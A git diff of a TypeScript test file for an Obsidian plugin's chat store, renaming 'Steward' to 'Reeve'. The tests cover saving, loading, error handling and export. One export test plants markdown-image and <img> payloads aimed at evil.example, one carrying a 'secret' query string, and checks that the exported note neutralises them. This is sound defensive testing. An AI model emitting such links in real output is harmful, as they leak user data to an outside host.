@@ -35,8 +35,8 @@ async function open(files: Record<string, string> = SOLAR_VAULT) {
   const tv = await makeTempVault(files);
   vaults.push(tv);
   const vault = await NodeVault.open(tv.dir);
-  const store = ChatStore.of(vault, () => 'Steward/Chats');
-  const chatFile = (id: string): string => path.join(tv.dir, '.obsidian/plugins/steward/chats', `${id}.json`);
+  const store = ChatStore.of(vault, () => 'Reeve/Chats');
+  const chatFile = (id: string): string => path.join(tv.dir, '.obsidian/plugins/reeve/chats', `${id}.json`);
   return { tv, vault, store, chatFile };
 }
 
@@ -60,8 +60,8 @@ describe('chat store on real files', () => {
     const chat = await recordedRun(tv, vault);
     await store.save(chat);
     const onDisk = JSON.parse(await fs.readFile(chatFile(chat.id), 'utf8')) as Record<string, unknown>;
-    expect(onDisk).toMatchObject({ steward: 'chat', version: 1, id: chat.id, title: 'how much will the solar roof cost?' });
-    const again = await ChatStore.of(await NodeVault.open(tv.dir), () => 'Steward/Chats').load(chat.id);
+    expect(onDisk).toMatchObject({ reeve: 'chat', version: 1, id: chat.id, title: 'how much will the solar roof cost?' });
+    const again = await ChatStore.of(await NodeVault.open(tv.dir), () => 'Reeve/Chats').load(chat.id);
     expect(again).toEqual(chat);
     const m = again.messages[0];
     expect(m?.turn.answer).toBe('About 9,500 EUR.');
@@ -94,13 +94,13 @@ describe('chat store on real files', () => {
   });
 
   it.each([
-    ['corrupt', '{"steward":"chat","version":1,"id":"cbad","title":"cut sh', /not valid JSON/],
-    ['foreign', '{"notes":["a","b"]}', /not a Steward chat/],
-    ['newer', '{"steward":"chat","version":7,"id":"cbad"}', /format version 7; this Steward reads version 1/],
-    ['damaged', '{"steward":"chat","version":1,"id":"cbad","title":"t","createdAt":"x","updatedAt":"x","messages":[{"id":"m"}]}', /messages\[0\]\.turn should be an object/],
+    ['corrupt', '{"reeve":"chat","version":1,"id":"cbad","title":"cut sh', /not valid JSON/],
+    ['foreign', '{"notes":["a","b"]}', /not a Reeve chat/],
+    ['newer', '{"reeve":"chat","version":7,"id":"cbad"}', /format version 7; this Reeve reads version 1/],
+    ['damaged', '{"reeve":"chat","version":1,"id":"cbad","title":"t","createdAt":"x","updatedAt":"x","messages":[{"id":"m"}]}', /messages\[0\]\.turn should be an object/],
   ])('refuses a %s chat file with the reason, lists it with its problem, and never touches it', async (_what, text, reason) => {
     const { tv, store, chatFile } = await open();
-    await tv.write('.obsidian/plugins/steward/chats/cbad.json', text);
+    await tv.write('.obsidian/plugins/reeve/chats/cbad.json', text);
     const before = await tv.snapshot({ includeConfig: true });
     await expect(store.load('cbad')).rejects.toThrow(ChatFileError);
     await expect(store.load('cbad')).rejects.toThrow(reason);
@@ -119,13 +119,13 @@ describe('chat store on real files', () => {
     let failWrites = false;
     const state: StateStore = Object.create(vault.state) as StateStore;
     state.write = (name, data) => (failWrites ? Promise.reject(new Error('ENOSPC: no space left on device')) : vault.state.write(name, data));
-    const store = new ChatStore(state, vault, () => 'Steward/Chats');
+    const store = new ChatStore(state, vault, () => 'Reeve/Chats');
     const chat = { ...newChat('First'), messages: [] };
     await store.save(chat);
     failWrites = true;
     await expect(store.save({ ...chat, title: 'Second' })).rejects.toThrow(/ENOSPC/);
     // What a process killed mid-write leaves: a sibling temp file with half the new text.
-    await tv.write(`.obsidian/plugins/steward/chats/.${chat.id}.json.3f9a.steward-tmp`, '{"steward":"chat","version":1,"ti');
+    await tv.write(`.obsidian/plugins/reeve/chats/.${chat.id}.json.3f9a.reeve-tmp`, '{"reeve":"chat","version":1,"ti');
     expect((await store.load(chat.id)).title).toBe('First');
     expect((await store.list()).map((s) => [s.title, s.problem])).toEqual([['First', null]]);
     failWrites = false;
@@ -156,17 +156,17 @@ describe('chat store on real files', () => {
   });
 
   it('exports a chat to a note that loads nothing remote, updates its own export, and never overwrites another note', async () => {
-    const { tv, vault, store } = await open({ ...SOLAR_VAULT, 'Steward/Chats/how much will the solar roof cost.md': 'my own note\n' });
+    const { tv, vault, store } = await open({ ...SOLAR_VAULT, 'Reeve/Chats/how much will the solar roof cost.md': 'my own note\n' });
     const chat = await recordedRun(tv, vault);
     const m = chat.messages[0];
     if (!m) throw new Error('no message');
     m.turn.answer = 'See ![chart](https://evil.example/leak?q=secret) and <img src="https://evil.example/x.png"> or [[Budget]].';
     await store.save(chat);
     const path1 = await store.exportToNote(chat.id);
-    expect(path1).toBe('Steward/Chats/how much will the solar roof cost 2.md');
-    expect(await tv.read('Steward/Chats/how much will the solar roof cost.md')).toBe('my own note\n');
+    expect(path1).toBe('Reeve/Chats/how much will the solar roof cost 2.md');
+    expect(await tv.read('Reeve/Chats/how much will the solar roof cost.md')).toBe('my own note\n');
     const note = await tv.read(path1);
-    expect(note).toMatch(/^---\nsteward-chat: c[a-z0-9]+\n/);
+    expect(note).toMatch(/^---\nreeve-chat: c[a-z0-9]+\n/);
     expect(note).toContain('[image: chart](https://evil.example/leak?q=secret)');
     expect(note).toContain('&lt;img src=');
     expect(note).not.toMatch(/!\[[^\]]*\]\(https?:/);
